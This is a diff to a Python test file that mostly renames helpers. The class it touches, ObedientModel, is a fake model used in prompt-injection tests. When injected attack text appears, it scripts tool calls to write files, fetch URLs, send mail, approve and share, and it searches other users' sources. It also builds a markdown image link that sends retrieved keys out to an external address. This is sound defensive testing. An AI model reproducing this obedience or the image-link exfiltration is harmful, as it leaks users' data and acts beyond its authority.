@@ -30,8 +30,8 @@ from assay.language.injection import is_suspicious
 from assay.language.sentences import split_sentences
 from assay.language.terms import content_terms
 from assay.models.factory import has_model
-from assay.testing import Call, Calls, ChatServer, WordEmbedder
-from assay.testing.policies import agreeable
+from assay.testing import ChatServer, ScriptedCall, ScriptedCalls, WordEmbedder
+from assay.testing.fill_policies import cooperative_reply
 from assay.testing.protocol import keys_in, passages_in, role_of, text_of
 from assay.workspace.ask import AskOptions
 from assay.workspace.facade import Workspace, open_workspace
@@ -152,18 +152,18 @@ class ObedientModel:
         role, name = role_of(request)
         shown = text_of(request)
         if not role or self.attack.split("\n")[0][:60] not in shown:
-            return agreeable(request)
+            return cooperative_reply(request)
         self.obeyed += 1
         keys, words = keys_in(shown), " ".join(self.attack.split())
         link = f"![seen]({LINK}/?q={keys[0] if keys else ''})"
         if role == "decide":
             wanted = ("write_file", "http_get", "send_mail", "approve", "share", "search_everyone")
-            return Calls(
+            return ScriptedCalls(
                 (
-                    *(Call(each, {"path": "/tmp/owned", "url": LINK, "run": "r"}) for each in wanted),
-                    Call("get_document", {"source": self.foreign}),
-                    Call("search_by_source", {"query": "herons", "source": self.foreign, "k": 10**9}),
-                    Call("search", {"query": "herons", "base": "theirs", "scope": "all"}),
+                    *(ScriptedCall(each, {"path": "/tmp/owned", "url": LINK, "run": "r"}) for each in wanted),
+                    ScriptedCall("get_document", {"source": self.foreign}),
+                    ScriptedCall("search_by_source", {"query": "herons", "source": self.foreign, "k": 10**9}),
+                    ScriptedCall("search", {"query": "herons", "base": "theirs", "scope": "all"}),
                 ),
                 words,
             )
@@ -191,7 +191,7 @@ class ObedientModel:
             "revise": {"action": "rewrite", "text": words, "cites": keys[:2]},
             "critique": {"complete": True, "gap": ""},
         }
-        return replies.get(name or role) or agreeable(request)
+        return replies.get(name or role) or cooperative_reply(request)
 
 
 # --- runs -----------------------------------------------------------------------------------------------------------
